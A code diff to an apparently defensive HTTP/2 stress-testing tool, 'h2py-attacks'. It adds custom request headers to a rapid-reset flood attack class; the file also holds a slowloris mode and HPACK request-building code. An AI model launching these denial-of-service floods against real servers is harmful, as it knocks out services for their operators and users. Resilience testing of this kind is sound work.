@@ -68,14 +68,16 @@ def hpack_literal(name, value, indexing=False):
     return head + hpack_int(len(value), 7, 0) + value
 
 
-def request_block(authority, path):
-    """POST http://authority/path as a gRPC call; touches no dynamic table."""
+def request_block(authority, path, extra=()):
+    """POST http://authority/path as a gRPC call, with `extra` (name, value) headers; touches
+    no dynamic table."""
     return (bytes([0x80 | 3, 0x80 | 6])                 # :method POST, :scheme http (static)
             + hpack_literal(4, path.encode())           # :path
             + hpack_literal(1, authority.encode())      # :authority
             + hpack_literal(31, b"application/grpc")   # content-type
             + hpack_literal(b"te", b"trailers")
-            + hpack_literal(58, b"h2py-attacks"))      # user-agent
+            + hpack_literal(58, b"h2py-attacks")       # user-agent
+            + b"".join(hpack_literal(n.encode(), v.encode()) for n, v in extra))
 
 
 def frame(type_id, flags, stream, payload=b""):
@@ -462,7 +464,7 @@ class RapidReset(Attack):
 
     def __init__(self, run):
         super().__init__(run)
-        self.block = request_block(run.authority, run.path)
+        self.block = request_block(run.authority, run.path, run.args.header)
         # Frame headers without their stream ids, which change for every pair.
         self.h = build_header(len(self.block), HEADERS, FLAG_END_HEADERS, 0)[:5]
         self.d = build_header(len(GRPC_EMPTY), DATA, FLAG_END_STREAM, 0)[:5]
@@ -880,6 +882,9 @@ def main():
     ap.add_argument("port", type=int)
     ap.add_argument("attack", choices=list(ATTACKS))
     ap.add_argument("--duration", type=float, default=5.0, help="seconds (default 5)")
+    ap.add_argument("--header", action="append", default=[],
+                    type=lambda t: tuple(t.split("=", 1)) if "=" in t else ap.error("--header NAME=VALUE"),
+                    help="rapid-reset: a request header NAME=VALUE (lower-case name; repeatable)")
     ap.add_argument("--connections", type=int,
                     help="connections kept open at once (default 1; slowloris 50)")
     ap.add_argument("--path", help="request path (default /proxytest.Test/Unary; "
